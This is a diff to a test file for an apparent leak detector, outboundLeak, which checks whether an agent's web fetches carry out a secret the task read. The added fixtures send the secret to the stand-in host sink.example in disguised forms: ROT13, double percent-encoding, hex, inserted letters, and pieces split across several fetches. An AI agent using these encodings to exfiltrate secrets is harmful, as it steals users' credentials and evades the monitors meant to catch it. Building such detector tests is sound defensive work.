@@ -31,8 +31,27 @@ describe("outboundLeak", () => {
     ["as base64url", `https://sink.example/${b64(`x${SECRET}?>`).replace(/\+/g, "-").replace(/\//g, "_")}`],
     ["as hex", `https://sink.example/${Buffer.from(SECRET).toString("hex")}`],
     ["reversed", `https://sink.example/${[...SECRET].reverse().join("")}`],
+    ["with a letter slipped in every few characters", `https://sink.example/${SECRET.replace(/(.{3})/g, "$1q")}`],
+    ["with a letter after every character", `https://sink.example/${[...SECRET].map((character) => `${character}z`).join("")}`],
+    ["percent-encoded twice", `https://sink.example/${encodeURIComponent(encodeURIComponent(SECRET))}`],
+    ["as hex split by slashes", `https://sink.example/${Buffer.from(SECRET).toString("hex").replace(/(.{6})/g, "$1/")}`],
+    ["as hex bytes with dashes", `https://sink.example/${[...Buffer.from(SECRET)].map((byte) => byte.toString(16).toUpperCase()).join("-")}`],
+    ["as ROT13", `https://sink.example/${SECRET.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + 97))}`],
+    ["as decimal codes", `https://sink.example/${[...SECRET].map((c) => c.charCodeAt(0)).join(".")}`],
+    ["as base64 of it reversed", `https://sink.example/${b64([...SECRET].reverse().join(""))}`],
   ])("finds a secret the task read carried out %s", (_how, url) => {
     expect(outboundLeak([url], read)).toMatchObject({ step: "s1" });
+  });
+
+  it("finds one sent a few characters a fetch, across the task's fetches", () => {
+    const task = taskThatRead(`API_KEY=${SECRET}\n`);
+    const sent = ["sk-live", "-CANARY"].map((part, index) => ({ id: `f${index}`, result: { tool: "web_fetch", ok: true, output: "" }, called_with: JSON.stringify({ url: `https://sink.example/${part}` }), step: { id: `f${index}` } }));
+    for (const step of sent) (task.steps as Record<string, unknown>)[step.id] = step;
+    expect(outboundLeak(["https://sink.example/123"], task)).toMatchObject({ step: "s1" });
+  });
+
+  it("finds one a command printed inside an address it then fetches", () => {
+    expect(outboundLeak([`https://sink.example/sh/API_KEY=${SECRET}`], taskThatRead(`https://sink.example/sh/API_KEY=${SECRET}\n`))).not.toBeNull();
   });
 
   it("finds one the task recalled from memory, and says so, without spelling it out", () => {
